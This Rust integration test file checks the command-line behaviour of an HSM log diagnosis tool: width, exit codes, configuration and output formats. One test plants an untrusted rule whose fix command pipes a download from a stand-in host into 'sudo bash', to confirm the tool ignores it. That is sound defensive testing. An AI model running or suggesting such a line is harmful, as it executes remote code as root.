//! The command line's habits: the terminal's width, exit codes by fail level,
//! errors, folder walks, configuration, and the options every command shares.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

fn hsmdiag() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_hsmdiag"));
    c.current_dir(root!())
        .env("NO_COLOR", "1")
        .env("HSMDIAG_CONFIG", "")
        .env_remove("HSMDIAG_RULES")
        .env_remove("HSMDIAG_GRAMMAR")
        .env_remove("COLUMNS");
    c
}

fn run(args: &[&str]) -> Output {
    hsmdiag().args(args).output().unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// The lines of `text` wider than `width` that are not a lone URL (kept
/// whole so a terminal can open it) nor a fix command that cannot be broken:
/// a Luna shell's (LunaSH and LunaCM have no line continuation) or one word
/// wider than the room (a resource id, a quoted JMESPath query).
fn too_wide(text: &str, width: usize) -> Vec<String> {
    text.lines()
        .filter(|l| l.chars().count() > width)
        .filter(|l| {
            let t = l.trim().trim_start_matches("- ");
            let url = t.trim_start_matches('<').trim_end_matches('>');
            !url.starts_with("https://") || url.contains(' ')
        })
        .filter(|l| {
            let t = l.trim();
            let luna = t.starts_with("lunash:>")
                || t.starts_with("lunacm:>")
                || t.starts_with("(in the .tf file)");
            // One word (a resource id, a quoted query, a `<placeholder>`,
            // whose spaces do not count) and its continuation.
            let core = t.trim_end_matches(" \\").trim_end_matches(" `");
            let mut depth = 0i32;
            let bare_space = core.chars().any(|c| {
                depth += i32::from(c == '<') - i32::from(c == '>');
                c == ' ' && depth <= 0
            });
            let one_word = !bare_space || core.starts_with('"') || core.starts_with('\'');
            !luna && !one_word
        })
        .map(str::to_owned)
        .collect()
}

#[test]
fn text_fits_the_terminal_width() {
    let commands: Vec<Vec<&str>> = vec![
        vec!["samples/incident"],
        vec!["samples/luna"],
        vec!["samples/azure"],
        vec!["samples/ntls"],
        vec!["--unrecognized", "samples/real"],
        vec!["timeline", "samples/incident"],
        vec!["rules"],
        vec!["explain", "HSM301"],
        vec!["explain", "HSM101"],
        vec!["explain", "CKR_PIN_INCORRECT"],
        vec![
            "diff",
            "samples/ntls/article-unknown-ca.log",
            "samples/incident",
        ],
        vec!["--help"],
    ];
    for width in [80, 120] {
        for args in &commands {
            let o = hsmdiag()
                .env("COLUMNS", width.to_string())
                .args(args)
                .output()
                .unwrap();
            let out = stdout(&o);
            assert!(!out.is_empty(), "{args:?}: {}", stderr(&o));
            let wide = too_wide(&out, width);
            assert!(wide.is_empty(), "{args:?} at {width}: {wide:#?}");
        }
    }
    // Evidence is cut, with a marker, not wrapped.
    let o = hsmdiag()
        .env("COLUMNS", "80")
        .arg("samples/ntls/article-unknown-ca.log")
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(out.contains(" │ …"), "{out}");
    assert!(out.contains("tlsv1 alert unknown ca"), "{out}");
}

#[test]
fn the_fail_level_decides_the_exit_status() {
    // Only an info finding (the firmware Azure ships): a healthy appliance.
    let info = "samples/luna/healthy-lunash-login-and-show.txt";
    assert_eq!(run(&[info]).status.code(), Some(0));
    assert_eq!(run(&["--fail-on", "info", info]).status.code(), Some(1));
    let error = "samples/ntls/article-unknown-ca.log";
    assert_eq!(run(&[error]).status.code(), Some(1));
    assert_eq!(run(&["--fail-on", "error", error]).status.code(), Some(1));
    assert_eq!(
        run(&["--fail-on", "critical", error]).status.code(),
        Some(0)
    );
    let bad = run(&["--fail-on", "severe", error]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("info, warning, error, critical"),
        "{}",
        stderr(&bad)
    );
    // The same level for diff and timeline.
    let d = run(&["diff", "--fail-on", "critical", error, error]);
    assert_eq!(d.status.code(), Some(0), "{}", stderr(&d));
    let d = run(&["diff", error, error]);
    assert_eq!(d.status.code(), Some(1));
    let t = run(&["timeline", "--fail-on", "critical", error]);
    assert_eq!(t.status.code(), Some(0));
}

#[test]
fn only_unreadable_inputs_give_errors_and_no_report() {
    for format in ["text", "json", "markdown"] {
        let o = run(&["--format", format, "samples/ntls/no-such-file.log"]);
        assert_eq!(o.status.code(), Some(2));
        assert_eq!(stdout(&o), "", "{format}");
        assert!(stderr(&o).contains("no such file or directory"));
    }
    // One of two unreadable: the report of the other, and a word on stderr.
    let o = run(&[
        "samples/ntls/no-such-file.log",
        "samples/ntls/article-unknown-ca.log",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stdout(&o).contains("1 finding (1 error)."));
    assert!(
        stderr(&o)
            .contains("1 input could not be read (above); the report covers the 1 that could"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_mistyped_command_is_suggested() {
    let o = run(&["tiemline", "samples/incident"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("did you mean the command `timeline`?"),
        "{}",
        stderr(&o)
    );
    // A real file named like nothing else is still read as a file.
    let o = run(&["rulez"]);
    assert!(stderr(&o).contains("`rules`"), "{}", stderr(&o));
    let o = run(&["samples/ntls/explian.log"]);
    assert!(!stderr(&o).contains("did you mean"), "{}", stderr(&o));
}

#[test]
fn iana_zones_follow_daylight_saving_time() {
    let log = "Jul 15 12:00:00 hsm1 NTLS[2490]: Error message from SSLAccept is : error:14094418:SSL routines:ssl3_read_bytes:tlsv1 alert unknown ca\n\
Jul 15 12:00:00 hsm1 NTLS[2490]: info : 0xc0000711 : Fail to establish a secure channel with client : 10.3.1.4/59415 : RC_SSL_FAILED_HANDSHAKE\n\
Jan 15 12:00:00 hsm2 NTLS[2490]: Error message from SSLAccept is : error:14094418:SSL routines:ssl3_read_bytes:tlsv1 alert unknown ca\n\
Jan 15 12:00:00 hsm2 NTLS[2490]: info : 0xc0000711 : Fail to establish a secure channel with client : 10.3.1.5/59415 : RC_SSL_FAILED_HANDSHAKE\n";
    let mut child = hsmdiag()
        .args([
            "--format",
            "json",
            "--year",
            "2026",
            "--tz",
            "Europe/Berlin",
            "-",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(log.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let seen: Vec<(String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["host"].as_str().unwrap_or_default().to_owned(),
                f["first_seen"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert!(
        seen.contains(&("hsm1".into(), "2026-07-15T10:00:00Z".into())),
        "{seen:?}"
    );
    assert!(
        seen.contains(&("hsm2".into(), "2026-01-15T11:00:00Z".into())),
        "{seen:?}"
    );
    let typo = run(&["--tz", "Europe/Berln", "samples/incident"]);
    assert_eq!(typo.status.code(), Some(2));
    assert!(stderr(&typo).contains("did you mean Europe/Berlin?"));
}

#[test]
fn folder_walks_leave_out_hidden_ignored_and_binary_files() {
    let dir = crate::scratch("walk");
    let article = std::fs::read("samples/ntls/article-unknown-ca.log").unwrap();
    std::fs::create_dir_all(dir.join("logs/old")).unwrap();
    std::fs::write(dir.join(".hidden.log"), &article).unwrap();
    std::fs::write(dir.join(".gitignore"), "ignored.log\n").unwrap();
    std::fs::write(dir.join("ignored.log"), &article).unwrap();
    std::fs::write(dir.join("logs/ntls.log"), &article).unwrap();
    std::fs::write(dir.join("logs/old/ntls.log.1"), &article).unwrap();
    std::fs::write(
        dir.join("logs/capture.pcap"),
        [0xd4, 0xc3, 0xb2, 0xa1, 0, 0, 0, 0, 1, 2],
    )
    .unwrap();
    let sources = |args: &[&str]| -> Vec<String> {
        let o = hsmdiag()
            .args(["--format", "json"])
            .args(args)
            .arg(&dir)
            .output()
            .unwrap();
        let r: serde_json::Value =
            serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&o)));
        let mut names: Vec<String> = r["summary"]["sources"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                let n = s["name"].as_str().unwrap();
                Path::new(n)
                    .strip_prefix(&dir)
                    .map_or(n.to_owned(), |p| p.display().to_string())
            })
            .collect();
        names.sort();
        names
    };
    // Hidden files are left out; outside a git work tree a .gitignore does
    // not count (as with ripgrep), an .hsmdiagignore does.
    std::fs::write(dir.join(".hsmdiagignore"), "*.1\n").unwrap();
    assert_eq!(sources(&[]), ["ignored.log", "logs/ntls.log"]);
    assert!(sources(&["--hidden"]).contains(&".hidden.log".to_owned()));
    assert_eq!(
        sources(&["--no-ignore"]),
        ["ignored.log", "logs/ntls.log", "logs/old/ntls.log.1"]
    );
    std::fs::remove_file(dir.join(".hsmdiagignore")).unwrap();
    assert_eq!(
        sources(&["--glob", "*.log"]),
        ["ignored.log", "logs/ntls.log"]
    );
    assert_eq!(
        sources(&["--exclude", "old/"]),
        ["ignored.log", "logs/ntls.log"]
    );
    // In a git work tree, .gitignore counts and .git is never read.
    std::fs::create_dir_all(dir.join(".git/objects")).unwrap();
    std::fs::write(dir.join(".git/objects/copy.log"), &article).unwrap();
    std::fs::write(dir.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let inside = sources(&[]);
    assert_eq!(
        inside,
        ["logs/ntls.log", "logs/old/ntls.log.1"],
        "{inside:?}"
    );
    assert!(sources(&["--no-ignore"]).contains(&"ignored.log".to_owned()));
    // The binary capture is listed as skipped, not read.
    let o = hsmdiag().arg(&dir).output().unwrap();
    assert!(stdout(&o).contains("capture.pcap"), "{}", stdout(&o));
    let bad = hsmdiag()
        .args(["--glob", "[", dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("not a valid glob"),
        "{}",
        stderr(&bad)
    );
}

#[test]
fn completions_and_a_manual_page() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let o = run(&["completions", shell]);
        assert_eq!(o.status.code(), Some(0), "{shell}");
        let s = stdout(&o);
        assert!(s.contains("hsmdiag") && s.contains("timeline"), "{shell}");
        assert!(s.contains("fail-on"), "{shell}");
    }
    let man = run(&["man"]);
    assert_eq!(man.status.code(), Some(0));
    let page = stdout(&man);
    assert!(
        page.starts_with(".ie") || page.contains(".TH hsmdiag"),
        "{page}"
    );
    assert!(page.contains("fail\\-on"), "{page}");
    let dir = crate::scratch("man");
    let o = hsmdiag().args(["man", "--dir"]).arg(&dir).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    for page in ["hsmdiag.1", "hsmdiag-explain.1", "hsmdiag-timeline.1"] {
        assert!(dir.join(page).is_file(), "{page}");
    }
}

#[test]
fn quiet_and_verbose() {
    let o = run(&["-q", "samples/ntls/article-unknown-ca.log"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stdout(&o), "");
    assert_eq!(stderr(&o), "");
    let o = run(&["-v", "samples/ntls/article-unknown-ca.log"]);
    assert!(stderr(&o).contains("configuration"), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("read samples/ntls/article-unknown-ca.log: 1 line (0 blank), no times"),
        "{}",
        stderr(&o)
    );
    assert!(stdout(&o).contains("HSM101"));
    for args in [
        &["-q", "rules"][..],
        &["explain", "-q", "HSM101"],
        &["-q", "timeline", "samples/incident"],
    ] {
        let o = run(args);
        assert_eq!(stdout(&o), "", "{args:?}: {}", stderr(&o));
        assert!(
            matches!(o.status.code(), Some(0 | 1)),
            "{args:?}: {}",
            stderr(&o)
        );
    }
    // Options every command takes may come before the command.
    let o = run(&[
        "--color",
        "never",
        "--fail-on",
        "critical",
        "diff",
        "samples/ntls/article-unknown-ca.log",
        "samples/ntls/article-unknown-ca.log",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let dir = crate::scratch("quiet");
    let file = dir.join("report.json");
    let o = hsmdiag()
        .args(["-q", "--format", "json", "-o"])
        .arg(&file)
        .arg("samples/ntls/article-unknown-ca.log")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(std::fs::read_to_string(&file).unwrap().contains("HSM101"));
    let both = run(&["-q", "-v", "rules"]);
    assert_eq!(both.status.code(), Some(2));
}

#[test]
fn every_command_takes_color_and_its_formats() {
    for args in [
        vec!["rules"],
        vec!["explain", "HSM101"],
        vec!["events", "samples/ntls/article-unknown-ca.log"],
        vec!["timeline", "samples/ntls/article-unknown-ca.log"],
        vec![
            "diff",
            "samples/ntls/article-unknown-ca.log",
            "samples/ntls/article-unknown-ca.log",
        ],
        vec!["check", "docs/examples/site"],
        vec!["lint", "samples/lint/healthy-arm-quickstart.json"],
        vec!["samples/ntls/article-unknown-ca.log"],
    ] {
        for color in ["always", "never", "auto"] {
            let o = hsmdiag()
                .args(&args)
                .args(["--color", color])
                .output()
                .unwrap();
            assert!(
                matches!(o.status.code(), Some(0 | 1)),
                "{args:?} --color {color}: {}",
                stderr(&o)
            );
        }
    }
    for cmd in [
        vec!["events", "--format", "json"],
        vec!["timeline", "--format", "json"],
        vec![
            "diff",
            "--format",
            "json",
            "samples/ntls/article-unknown-ca.log",
        ],
        vec!["--format", "json"],
    ] {
        let o = hsmdiag()
            .args(&cmd)
            .arg("samples/ntls/article-unknown-ca.log")
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&o.stdout)
            .unwrap_or_else(|e| panic!("{cmd:?}: {e}: {}", stdout(&o)));
        assert!(!v.is_null(), "{cmd:?}");
    }
    let check = run(&["check", "--format", "json", "docs/examples/site"]);
    let v: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    assert!(v.as_array().unwrap().iter().all(|c| c["ok"] == true), "{v}");
    assert!(
        v.as_array().unwrap().iter().any(|c| c["kind"] == "rule"),
        "{v}"
    );
    // jsonl: one object per line (the older --json says the same).
    for flag in [&["--format", "jsonl"][..], &["--json"][..]] {
        let o = hsmdiag()
            .arg("events")
            .args(flag)
            .arg("samples/ntls/article-unknown-ca.log")
            .output()
            .unwrap();
        let out = stdout(&o);
        assert!(out.lines().count() >= 3, "{out}");
        for l in out.lines() {
            serde_json::from_str::<serde_json::Value>(l).unwrap();
        }
    }
}

#[test]
fn a_configuration_file_and_the_environment() {
    let dir = crate::scratch("config");
    std::fs::write(
        dir.join("hsmdiag.toml"),
        "fail-on = \"info\"\ntz = \"Europe/Berlin\"\ncolor = \"never\"\n",
    )
    .unwrap();
    let info = Path::new(root!()).join("samples/luna/healthy-lunash-login-and-show.txt");
    let in_dir = |extra: &[&str]| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_hsmdiag"));
        c.current_dir(&dir)
            .env_remove("HSMDIAG_CONFIG")
            .env("XDG_CONFIG_HOME", dir.join("nothing-here"))
            .args(extra)
            .arg(&info);
        c.output().unwrap()
    };
    // A hsmdiag.toml in the working folder is announced, not obeyed.
    let found = in_dir(&[]);
    assert_eq!(found.status.code(), Some(0));
    assert!(
        stderr(&found).contains("not reading ./hsmdiag.toml")
            && stderr(&found).contains("--config ./hsmdiag.toml"),
        "{}",
        stderr(&found)
    );
    assert!(stderr(&in_dir(&["-q"])).is_empty(), "-q silences the note");
    // Named with --config, it is read: fail-on = "info".
    assert_eq!(in_dir(&["--config", "hsmdiag.toml"]).status.code(), Some(1));
    assert_eq!(
        in_dir(&["--config", "hsmdiag.toml", "--fail-on", "warning"])
            .status
            .code(),
        Some(0)
    );
    let v = in_dir(&["--config", "hsmdiag.toml", "-v"]);
    assert!(
        stderr(&v).contains("configuration from hsmdiag.toml"),
        "{}",
        stderr(&v)
    );
    // The user's own configuration folder, and HSMDIAG_CONFIG, are obeyed.
    let home = dir.join("home");
    std::fs::create_dir_all(home.join("hsmdiag")).unwrap();
    std::fs::copy(dir.join("hsmdiag.toml"), home.join("hsmdiag/hsmdiag.toml")).unwrap();
    let user = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
        .current_dir(dir.join(".."))
        .env_remove("HSMDIAG_CONFIG")
        .env("XDG_CONFIG_HOME", &home)
        .arg(&info)
        .output()
        .unwrap();
    assert_eq!(user.status.code(), Some(1), "{}", stderr(&user));
    let env = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
        .current_dir(dir.join(".."))
        .env("HSMDIAG_CONFIG", dir.join("hsmdiag.toml"))
        .arg(&info)
        .output()
        .unwrap();
    assert_eq!(env.status.code(), Some(1));
    // A folder below finds it too, and does not obey it either.
    std::fs::create_dir_all(dir.join("below")).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
        .current_dir(dir.join("below"))
        .env_remove("HSMDIAG_CONFIG")
        .env("XDG_CONFIG_HOME", dir.join("nothing-here"))
        .arg(&info)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0));
    assert!(stderr(&o).contains("hsmdiag.toml"), "{}", stderr(&o));
    // A wrong key: the file, the line, what is allowed.
    std::fs::write(
        dir.join("hsmdiag.toml"),
        "fail-on = \"info\"\nfail_on = 3\n",
    )
    .unwrap();
    let bad = in_dir(&["--config", "hsmdiag.toml"]);
    assert_eq!(bad.status.code(), Some(2));
    let e = stderr(&bad);
    assert!(
        e.contains("hsmdiag.toml") && e.contains("unknown field"),
        "{e}"
    );
    assert!(e.contains("2 │"), "{e}");
    // HSMDIAG_RULES adds site rules like --rules.
    let rules = hsmdiag()
        .args(["rules", "--format", "json"])
        .env("HSMDIAG_RULES", "docs/examples/site")
        .env("HSMDIAG_GRAMMAR", "docs/examples/site")
        .output()
        .unwrap();
    let plain = run(&["rules", "--format", "json"]);
    let count = |o: &Output| {
        serde_json::from_slice::<serde_json::Value>(&o.stdout)
            .unwrap()
            .as_array()
            .unwrap()
            .len()
    };
    assert!(count(&rules) > count(&plain), "{}", stderr(&rules));
}

/// A log typed at a terminal: the one-line hint on stderr, then the analysis
/// of what was typed.
#[cfg(unix)]
#[test]
fn a_terminal_on_stdin_gets_a_hint() {
    use std::os::fd::FromRawFd;
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two descriptors we then own.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(rc, 0, "openpty");
    // SAFETY: both descriptors are open and owned here alone.
    let (master, slave) = unsafe {
        (
            std::fs::File::from_raw_fd(master),
            std::os::fd::OwnedFd::from_raw_fd(slave),
        )
    };
    let child = hsmdiag()
        .stdin(Stdio::from(slave))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut m = master;
    // End of input, as Ctrl-D at the start of a line.
    m.write_all(b"\x04").unwrap();
    let out = child.wait_with_output().unwrap();
    let e = stderr(&out);
    assert!(e.contains("reading a log from the terminal"), "{e}");
    assert!(e.lines().count() == 1, "{e}");
    assert_eq!(out.status.code(), Some(0));
}

/// An extracted customer archive that carries its own hsmdiag.toml: it tries
/// to leave the failing log out, lower the fail level to critical and add a
/// rule whose fix step pipes a download into a root shell. None of it is
/// obeyed; the failing log's finding is reported as from the log alone.
#[test]
fn a_configuration_beside_the_data_changes_nothing() {
    let dir = crate::scratch("config-untrusted");
    std::fs::create_dir(dir.join("logs")).unwrap();
    std::fs::copy(
        Path::new(root!()).join("samples/ntls/article-unknown-ca.log"),
        dir.join("logs/failing.log"),
    )
    .unwrap();
    std::fs::create_dir(dir.join("evil")).unwrap();
    let rule = std::fs::read_to_string(Path::new(root!()).join("docs/examples/site/pool-exhausted.toml"))
        .unwrap()
        .replace(
            "step = \"Raise the pool size",
            "command = \"curl -s https://example.invalid/fix.sh | sudo bash\"\nstep = \"Raise the pool size",
        );
    std::fs::write(dir.join("evil/rule.toml"), rule).unwrap();
    std::fs::write(
        dir.join("hsmdiag.toml"),
        "exclude = [\"failing.log\"]\nfail-on = \"critical\"\nrules = [\"evil\"]\ngrammar = [\"evil\"]\n",
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
        .current_dir(&dir)
        .env_remove("HSMDIAG_CONFIG")
        .env("XDG_CONFIG_HOME", dir.join("nothing-here"))
        .env("NO_COLOR", "1")
        .args(["--format", "json", "."])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let ids: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["ntls.unknown_ca"]);
    // The rule file and the configuration are hsmdiag's knowledge, not
    // evidence: listed as skipped, their help text never read as a log.
    let skipped = report["summary"]["skipped"].to_string();
    assert!(
        skipped.contains("rule.toml") && skipped.contains("hsmdiag.toml"),
        "{skipped}"
    );
    assert!(!String::from_utf8_lossy(&o.stdout).contains("curl"));
    assert!(
        stderr(&o).contains("not reading ./hsmdiag.toml"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_dir_all(&dir).ok();
}

/// A finding of a user's rule names the rule's file in every format.
#[test]
fn a_user_rule_finding_names_its_file_in_every_format() {
    let file = "docs/examples/site/pool-exhausted.toml";
    for format in ["text", "json", "jsonl", "markdown", "sarif", "html"] {
        let o = run(&[
            "--rules",
            file,
            "--grammar",
            "docs/examples/site/signer-grammar.toml",
            "--format",
            format,
            "docs/examples/site/signer.log",
        ]);
        let out = stdout(&o);
        assert!(out.contains("HSM801"), "{format}: {out}");
        assert!(
            out.contains(file),
            "{format} does not name the rule's file: {out}"
        );
    }
    // A built-in rule's finding names no file.
    let o = run(&["--format", "json", "samples/ntls/article-unknown-ca.log"]);
    assert!(!stdout(&o).contains("rule_file"));
}

/// Issue 32: a fix command printed for a terminal pastes whole. Every
/// command of every step (one per line in the JSON report) is in the text
/// report at 60 columns either on one line or broken only with its shell's
/// continuation, so that joining the continued lines gives it back.
#[test]
fn fix_commands_paste_whole_at_any_width() {
    for input in ["samples/azure", "samples/ntls", "samples/luna"] {
        let json = hsmdiag()
            .args(["--format", "json", input])
            .output()
            .unwrap();
        let r: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        let text = stdout(&hsmdiag().env("COLUMNS", "60").arg(input).output().unwrap());
        // The commands as the terminal shows them, continued lines joined.
        let mut shown: Vec<String> = Vec::new();
        let mut open: Option<String> = None;
        for l in text.lines() {
            let t = l.trim();
            let piece = match open.take() {
                Some(mut c) => {
                    c.push(' ');
                    c.push_str(t);
                    c
                }
                None => match ["$ ", "PS> ", "lunash:> ", "lunacm:> ", "(in the .tf file) "]
                    .iter()
                    .find_map(|p| t.strip_prefix(p).map(|rest| (p, rest)))
                {
                    Some((p, rest)) if p.starts_with("luna") => format!("{p}{rest}"),
                    Some((_, rest)) => rest.to_owned(),
                    None => continue,
                },
            };
            match piece
                .strip_suffix(" \\")
                .or_else(|| piece.strip_suffix(" `"))
            {
                Some(c) => open = Some(c.to_owned()),
                None => shown.push(piece),
            }
        }
        let mut checked = 0;
        for f in r["findings"].as_array().unwrap() {
            for s in f["remediation_steps"].as_array().unwrap() {
                let Some(c) = s["command"].as_str() else {
                    continue;
                };
                for line in c.lines() {
                    let want = line.trim().trim_start_matches("$ ");
                    assert!(
                        shown.iter().any(|s| s == want),
                        "{input}: `{want}` is not shown whole:\n{text}"
                    );
                    checked += 1;
                }
            }
        }
        assert!(checked > 10, "{input}: {checked} commands");
    }
}
